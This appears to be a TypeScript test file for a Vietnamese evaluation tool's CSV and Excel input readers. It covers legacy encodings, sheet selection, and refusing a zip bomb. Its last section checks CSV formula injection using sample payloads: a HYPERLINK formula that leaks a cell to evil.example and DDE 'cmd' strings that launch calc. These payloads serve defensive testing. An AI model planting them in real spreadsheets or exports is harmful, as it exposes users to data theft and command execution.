import ExcelJS from 'exceljs';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import {
  readCriteriaFile,
  readPeopleFile,
  readScoresFile,
  readUnitsFile,
  type InputFile,
} from '../../src/app/inputs';
import type { Unit } from '../../src/core/bloc';
import { compileTemplate, type CompiledTemplate } from '../../src/core/template/compile';
import { toCsv } from '../../src/workbook/csv';
import { InputError } from '../../src/workbook/problems';
import { partsOf, zeros, zipOf } from '../support/hostile-packages';
import { latin1Bytes, toTcvn3, toVni } from '../support/legacy-vietnamese';

/**
 * Files as offices have them (docs/csv-formats.md, "Tệp như văn phòng lưu"): Excel's Vietnamese
 * CSV (Windows-1258) and "Unicode Text" (UTF-16, tabs), spreadsheets with the same columns, marks
 * on an alternative's own row, and text that starts like a formula.
 */
const OFFICES = join(__dirname, '..', 'fixtures', 'offices');
const GOOD = join(__dirname, '..', 'fixtures', 'csv');
const file = (dir: string, name: string): InputFile => ({
  name,
  bytes: readFileSync(join(dir, name)),
});

let units: Unit[];
let compiled: CompiledTemplate;
beforeAll(async () => {
  units = (await readUnitsFile(file(GOOD, 'units.csv'))).units!;
  compiled = compileTemplate((await readCriteriaFile(file(GOOD, 'criteria.csv'))).template!);
});

describe('encodings', () => {
  it('reads Windows-1258 with its tones as combining marks, as NFC, and says so', async () => {
    const bytes = readFileSync(join(OFFICES, 'units-cp1258.csv'));
    // The fixture is what Excel writes: "ơ" then the hook above as its own byte (0xD2).
    expect([...bytes.subarray(21, 23)]).toEqual([0xf5, 0xd2]);
    const r = await readUnitsFile(file(OFFICES, 'units-cp1258.csv'));
    expect(r.problems).toEqual([]);
    expect(r.units).toEqual([{ code: 'STP', name: 'Sở Tư pháp', role: 'pho-truong-khoi' }]);
    expect(r.units![0]!.name).toBe(r.units![0]!.name.normalize('NFC'));
    expect(r.notes).toEqual([
      'units-cp1258.csv: đọc theo bảng mã Windows-1258 (CSV của Excel tiếng Việt).',
    ]);
  });

  it('refuses another code page read as Windows-1258: a tone on a consonant', async () => {
    // Latin-1's "ò" (0xF2) is Windows-1258's combining dot below: "Tòa" would read "Ṭa".
    const r = await readUnitsFile(file(join(OFFICES, '..', 'bad'), 'units-latin1.csv'));
    expect(r.units).toBeUndefined();
    expect(r.problems[0]?.message).toBe('tệp không phải UTF-8; hãy lưu lại dạng CSV UTF-8.');
  });

  it('reads Unicode Text (UTF-16, tab-separated) as the same units as the UTF-8 CSV', async () => {
    const r = await readUnitsFile(file(OFFICES, 'units-unicode-text.txt'));
    expect(r.problems).toEqual([]);
    expect(r.units).toEqual(units);
    expect(r.notes).toEqual(['units-unicode-text.txt: đọc theo bảng mã Unicode Text (UTF-16).']);
  });

  it('reads UTF-16 with commas too', async () => {
    const r = await readScoresFile(file(OFFICES, 'scores-utf16-comma.csv'), { units, compiled });
    expect(r.rows).toEqual([{ line: 2, unitCode: 'CAT', code: '1.2', self: 4, verified: 4 }]);
  });

  it('reads TCVN3 (.VnTime) as Unicode: its bytes, or its letters copied into a UTF-8 file', async () => {
    const utf8 = readFileSync(join(GOOD, 'units.csv'), 'utf8');
    const bytes = await readUnitsFile(file(OFFICES, 'units-tcvn3.csv'));
    expect(bytes.problems).toEqual([]);
    expect(bytes.units).toEqual(units);
    expect(bytes.notes).toEqual([
      'units-tcvn3.csv: đọc theo bảng mã TCVN3 (phông .VnTime), đã chuyển sang Unicode.',
    ]);
    const copied = { name: 'dv.csv', bytes: new TextEncoder().encode(toTcvn3(utf8)) };
    expect((await readUnitsFile(copied)).units).toEqual(units);
  });

  it('reads VNI (VNI-Times) as Unicode too', async () => {
    const utf8 = readFileSync(join(GOOD, 'units.csv'), 'utf8');
    const r = await readUnitsFile({ name: 'dv-vni.csv', bytes: latin1Bytes(toVni(utf8)) });
    expect(r.problems).toEqual([]);
    expect(r.units).toEqual(units);
    expect(r.notes).toEqual([
      'dv-vni.csv: đọc theo bảng mã VNI (phông VNI-Times), đã chuyển sang Unicode.',
    ]);
  });

  it('reads .VnTime cells of a spreadsheet as Unicode, and says so', async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('Đơn vị');
    ws.addRow([toTcvn3('DANH SÁCH ĐƠN VỊ KHỐI NỘI CHÍNH')]);
    readFileSync(join(GOOD, 'units.csv'), 'utf8')
      .trim()
      .split('\n')
      .forEach((line) => ws.addRow(toTcvn3(line).split(',')));
    const r = await readUnitsFile({
      name: 'dv.xlsx',
      bytes: new Uint8Array(await wb.xlsx.writeBuffer()),
    });
    expect(r.problems).toEqual([]);
    expect(r.units).toEqual(units);
    expect(r.notes).toEqual([
      'dv.xlsx: đọc trang "Đơn vị"; bỏ qua dòng 1 phía trên dòng tiêu đề cột; chữ theo bảng mã TCVN3 (phông .VnTime), đã chuyển sang Unicode.',
    ]);
  });

  it('says nothing for plain UTF-8, with or without a byte-order mark', async () => {
    expect((await readUnitsFile(file(GOOD, 'units.csv'))).notes).toEqual([]);
    expect((await readScoresFile(file(GOOD, 'scores.csv'), { units, compiled })).notes).toEqual([]);
  });
});

describe('spreadsheets as input', () => {
  it('reads the first sheet of criteria and units workbooks as their CSV files', async () => {
    const fromCsv = await readCriteriaFile(file(GOOD, 'criteria.csv'));
    const fromXlsx = await readCriteriaFile(file(OFFICES, 'criteria.xlsx'));
    expect(fromXlsx.problems).toEqual([]);
    expect(fromXlsx.template?.criteria).toEqual(fromCsv.template?.criteria);
    expect(fromXlsx.template?.title).toBe('criteria');
    const u = await readUnitsFile(file(OFFICES, 'units.xlsx'));
    expect(u.units).toEqual(units);
    expect(u.notes).toEqual(['units.xlsx: đọc trang "Sheet1".']);
  });

  it('reads the named sheet (any case): numbers, dates and text as the CSV gives them', async () => {
    const csv = await readScoresFile(file(GOOD, 'scores.csv'), { units, compiled });
    const xlsx = await readScoresFile(
      file(OFFICES, 'scores.xlsx'),
      { units, compiled },
      { sheet: 'điểm' },
    );
    expect(xlsx.problems).toEqual([]);
    expect(xlsx.rows).toEqual(csv.rows);
    expect(xlsx.notes).toEqual(['scores.xlsx: đọc trang "Điểm".']);
  });

  it('reads the first sheet when none is named, and its problems name the file and sheet', async () => {
    const r = await readScoresFile(file(OFFICES, 'scores.xlsx'), { units, compiled });
    expect(r.rows).toBeUndefined();
    expect(r.problems[0]).toMatchObject({
      source: 'scores.xlsx (trang Hướng dẫn)',
      location: 'dòng 1',
    });
    expect(r.problems[0]!.message).toContain('thiếu cột don_vi');
  });

  it('refuses a sheet that is not there, listing those that are', async () => {
    const read = readScoresFile(file(OFFICES, 'scores.xlsx'), { units, compiled }, { sheet: 'X' });
    await expect(read).rejects.toThrow(InputError);
    await expect(read).rejects.toThrow(
      'scores.xlsx, trang tính: không có trang "X" (sổ tính có: Hướng dẫn, Điểm).',
    );
  });

  it('names the row of a bad value and the cell of an error, and reads nothing', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(join(OFFICES, 'scores.xlsx'));
    const ws = wb.getWorksheet('Điểm')!;
    ws.getCell('C3').value = 'bốn';
    ws.getCell('D4').value = { formula: 'Sheet9!A1', result: { error: '#REF!' } };
    const bytes = new Uint8Array(await wb.xlsx.writeBuffer());
    const r = await readScoresFile(
      { name: 'diem.xlsx', bytes },
      { units, compiled },
      {
        sheet: 'Điểm',
      },
    );
    expect(r.rows).toBeUndefined();
    expect(r.problems.map((p) => `${p.source}, ${p.location}: ${p.message}`)).toEqual([
      'diem.xlsx (trang Điểm), ô D4: ô có lỗi #REF!; hãy sửa ô (hoặc công thức của nó) trong sổ tính rồi thử lại.',
    ]);
    ws.getCell('D4').value = 1;
    const again = await readScoresFile(
      { name: 'diem.xlsx', bytes: new Uint8Array(await wb.xlsx.writeBuffer()) },
      { units, compiled },
      { sheet: 'Điểm' },
    );
    expect(again.problems.map((p) => `${p.location}: ${p.message}`)).toEqual([
      'dòng 3: tự chấm: "bốn" không phải là số (ví dụ hợp lệ: 9,5)',
    ]);
  });

  it('skips the title rows above the header, and says so', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(join(OFFICES, 'units.xlsx'));
    const ws = wb.getWorksheet('Sheet1')!;
    ws.spliceRows(
      1,
      0,
      ['DANH SÁCH ĐƠN VỊ THÀNH VIÊN KHỐI NỘI CHÍNH'],
      [],
      ['(kèm theo Kế hoạch số 05/KH-KNC)'],
    );
    ws.mergeCells('A1:C1');
    const bytes = new Uint8Array(await wb.xlsx.writeBuffer());
    const r = await readUnitsFile({ name: 'don-vi.xlsx', bytes });
    expect(r.units).toEqual(units);
    expect(r.notes).toEqual([
      'don-vi.xlsx: đọc trang "Sheet1"; bỏ qua các dòng 1, 3 phía trên dòng tiêu đề cột.',
    ]);
    // Rows keep the sheet's numbers: the header is row 4, a bad unit on row 6 is named so.
    ws.getCell('B6').value = null;
    const bad = await readUnitsFile({
      name: 'don-vi.xlsx',
      bytes: new Uint8Array(await wb.xlsx.writeBuffer()),
    });
    expect(bad.problems[0]).toMatchObject({ location: 'dòng 6', message: 'thiếu tên đơn vị.' });
  });

  it('refuses a zip bomb given as an input, before inflating it', async () => {
    const parts = await partsOf(readFileSync(join(OFFICES, 'units.xlsx')));
    const bomb = zipOf([...parts, zeros('xl/worksheets/sheet2.xml', 1536)]);
    const read = readUnitsFile({ name: 'don-vi.xlsx', bytes: bomb });
    await expect(read).rejects.toThrow(InputError);
    await expect(read).rejects.toThrow(/don-vi\.xlsx, tệp: tệp nén .* \(zip bomb\)/);
  });

  it('reads a spreadsheet by its content, whatever its name says', async () => {
    const bytes = readFileSync(join(OFFICES, 'units.xlsx'));
    const r = await readUnitsFile({ name: 'don-vi.csv', bytes });
    expect(r.units).toEqual(units);
  });
});

describe("marks on an alternative's own row", () => {
  it('choose that alternative, for self and verified alike, and say so once', async () => {
    const r = await readScoresFile(file(OFFICES, 'scores-marks.csv'), { units, compiled });
    expect(r.problems).toEqual([]);
    expect(r.rows).toEqual([
      {
        line: 3,
        unitCode: 'TTT',
        code: '1.4',
        self: '1.4.b',
        verified: '1.4.b',
        evidence: '- Công văn số 45/CV-TTT ngày 20/12/2025 (gửi chậm 2 ngày)',
      },
      {
        line: 5,
        unitCode: 'CAT',
        code: '1.4',
        self: '1.4.a',
        verified: '1.4.a',
        evidence: '+ Báo cáo số 12/BC-CAT ngày 05/12/2025',
      },
    ]);
    expect(r.notes).toEqual([
      'scores-marks.csv: 4 dấu chọn ghi ở dòng của phương án được hiểu là chọn phương án đó cho mục chọn.',
    ]);
  });

  it("agree with the code on the choice's own line, or are refused naming both", async () => {
    const scores = (lines: string[]) =>
      readScoresFile(
        {
          name: 'diem.csv',
          bytes: new TextEncoder().encode(
            ['don_vi;ma;tu_cham;khoi_cham;minh_chung', ...lines].join('\r\n'),
          ),
        },
        { units, compiled },
      );
    const same = await scores(['TTT;1.4;1.4.b;;', 'TTT;1.4.b;;x;']);
    expect(same.rows).toEqual([
      { line: 2, unitCode: 'TTT', code: '1.4', self: '1.4.b', verified: '1.4.b' },
    ]);
    const other = await scores(['TTT;1.4;1.4.a;;', 'TTT;1.4.b;3;;']);
    expect(other.rows).toBeUndefined();
    expect(other.problems.map((p) => `${p.location}: ${p.message}`)).toEqual([
      'dòng 3: tự chấm: mục chọn 1.4 của đơn vị TTT có hai phương án được chọn, 1.4.a (dòng 2) và 1.4.b (dòng 3); mỗi mục chọn chỉ chọn một phương án.',
    ]);
    // A penalty alternative gives its points as written either way: 2 or -2.
    const penalty = await scores(['TTT;1.4.c;-2;2;']);
    expect(penalty.rows?.[0]).toMatchObject({ self: '1.4.c', verified: '1.4.c' });
  });
});

describe('text is text', () => {
  it('takes evidence and reasons starting with - + = @ as written', async () => {
    const r = await readScoresFile(file(OFFICES, 'scores-list-evidence.csv'), {
      units,
      compiled,
    });
    expect(r.problems).toEqual([]);
    expect(r.rows?.map((x) => [x.evidence, x.reason])).toEqual([
      ['- Kế hoạch số 12/KH-CAT ngày 10/01/2025 - Báo cáo số 12/BC-UBND ngày 05/3/2022', undefined],
      ['+ Biên bản kiểm tra', '=Thiếu 1 báo cáo quý'],
      ['@Trang thông tin điện tử', undefined],
    ]);
    for (const [name, evidence] of [
      ['scores-formula-evidence.csv', '=1+1'],
      ['scores-tab-evidence.csv', '=1+1'],
      [
        'scores-hyperlink-injection.csv',
        '=HYPERLINK("http://evil.example/?leak="&A1,"Xem minh chứng")',
      ],
    ] as const) {
      const x = await readScoresFile(file(OFFICES, name), { units, compiled });
      expect([name, x.rows?.[0]?.evidence]).toEqual([name, evidence]);
    }
    const dde = await readScoresFile(file(OFFICES, 'scores-dde-reason.csv'), { units, compiled });
    expect(dde.rows?.[0]?.reason).toBe("@SUM(1+1)*cmd|' /C calc'!A0");
    const people = await readPeopleFile(file(OFFICES, 'people-formula-name.csv'), { units });
    expect(people.people?.[0]?.name).toBe("=cmd|' /C calc'!A0");
  });

  it('neutralises such text only in CSV exports, and reads the export back the same', async () => {
    const text = toCsv([['minh_chung'], ['=1+1'], ['- Báo cáo'], ['Kế hoạch']], {
      delimiter: ';',
    });
    expect(text).toBe("minh_chung\r\n'=1+1\r\n'- Báo cáo\r\nKế hoạch\r\n");
    const back = await readScoresFile(
      {
        name: 'diem.csv',
        bytes: new TextEncoder().encode(
          "don_vi;ma;tu_cham;khoi_cham;minh_chung\r\nCAT;1.2;4;4;'=1+1\r\nCAT;1.3;6;6;'- Báo cáo\r\n",
        ),
      },
      { units, compiled },
    );
    expect(back.rows?.map((x) => x.evidence)).toEqual(['=1+1', '- Báo cáo']);
  });
});
